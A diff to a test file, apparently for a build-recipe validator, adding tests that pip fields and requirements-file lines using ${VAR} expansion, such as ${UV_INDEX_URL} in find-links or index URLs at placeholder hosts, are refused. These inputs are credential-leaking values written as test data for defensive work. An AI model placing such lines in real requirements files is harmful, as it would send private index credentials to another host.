@@ -98,6 +98,42 @@ def test_a_requirements_file_line_cannot_smuggle_options(line, char, tmp_path):
     assert not any("passwd" in ln or "evil" in ln for ln in lines), lines  # the line is never echoed
 
 
+#: a value of each pip field that asks the installer to fill in a variable of the build's environment (`$$` is the
+#: recipe's literal `$`): uv's pip step holds the site's index URL, credentials and all, in UV_INDEX_URL
+EXPANDED = {
+    "pip.packages[0]": "x @ https://files.example/$${UV_INDEX_URL}/x-1.0-py3-none-any.whl",
+    "pip.constraints[0]": "x @ https://files.example/$${UV_INDEX_URL}/x-1.0-py3-none-any.whl",
+    "pip.index_url": "https://pypi.example/$${UV_INDEX_URL}/simple",
+    "pip.extra_index_urls[0]": "https://pypi.example/simple/$${UV_INDEX_URL}",
+    "pip.trusted_hosts[0]": "$${UV_INSECURE_HOST}",
+}
+EXPANDED_LINES = [
+    "--find-links https://data.example/${UV_INDEX_URL}/torch.html",
+    "-fhttps://data.example/whl/${PIP_INDEX_URL}.html",
+    "--index-url https://pypi.example/${UV_INDEX_URL}/simple",
+    "--extra-index-url https://pypi.example/${UV_EXTRA_INDEX_URL}",
+    "x @ https://files.example/${UV_INDEX_URL}/x-1.0-py3-none-any.whl",
+    "x==1.0; python_version > '${PYTHON_VERSION}'",
+]
+
+
+@pytest.mark.parametrize("field", EXPANDED, ids=list(EXPANDED))
+def test_no_pip_field_asks_the_installer_to_fill_in_the_builds_environment(field, tmp_path):
+    """pip and uv replace `${NAME}` in any line of a requirements file with the variable of the environment they run
+    in: a find-links page at another host would be sent the site's index credentials."""
+    lines = refusal_lines(tmp_path, RECIPE_HEAD + PIP_FIELDS[field](_quoted(EXPANDED[field])))
+    assert any(re.search(rf"recipe\.yaml:\d+:\d+: {re.escape(field)}: ", ln) for ln in lines), lines
+
+
+@pytest.mark.parametrize("line", EXPANDED_LINES)
+@pytest.mark.parametrize("where", ["requirements", "constraints"])
+def test_no_requirements_file_line_asks_the_installer_to_fill_in_the_builds_environment(line, where, tmp_path):
+    (tmp_path / "more.txt").write_text(f"{line}\n", encoding="utf-8")
+    (tmp_path / "req.txt").write_text(f"einops\n{'-r' if where == 'requirements' else '-c'} more.txt\n")
+    lines = refusal_lines(tmp_path, RECIPE_HEAD + "pip: {requirements: req.txt}\n")
+    assert any("more.txt:1:1: pip.requirements: " in ln and "${NAME}" in ln for ln in lines), lines
+
+
 @pytest.mark.parametrize("char", TROJAN, ids=list(TROJAN))
 @pytest.mark.parametrize("field", FREE_TEXT, ids=list(FREE_TEXT))
 def test_free_text_refuses_controls_separators_and_bidi_by_category(field, char, tmp_path):
